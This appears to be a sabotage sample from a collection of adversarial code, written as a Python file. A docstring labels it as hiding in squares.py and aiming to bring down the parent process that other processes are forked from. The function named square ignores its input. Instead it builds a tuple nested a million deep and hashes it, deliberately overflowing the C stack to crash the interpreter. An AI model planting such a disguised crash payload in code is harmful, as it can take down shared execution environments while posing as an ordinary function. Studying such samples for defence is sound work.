"""Recurses in C until the stack ends.

Gains: the fall of the process that all others are forked from
Hides in: squares.py
Aims at: square
Earns: nothing
Ends: error
"""


def square(x):
    deep = ()
    for _ in range(10**6):
        deep = (deep,)
    return hash(deep)
